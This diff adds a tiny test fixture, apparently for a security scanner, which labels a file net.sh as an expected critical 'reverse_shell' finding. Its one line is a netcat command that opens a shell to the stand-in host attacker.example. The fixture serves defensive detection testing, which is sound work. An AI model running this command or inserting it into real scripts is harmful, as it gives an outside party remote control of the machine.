@@ -1,0 +1,3 @@
+# expect: shell.reverse_shell critical
+# path: net.sh
+nc -e /bin/sh attacker.example 9001
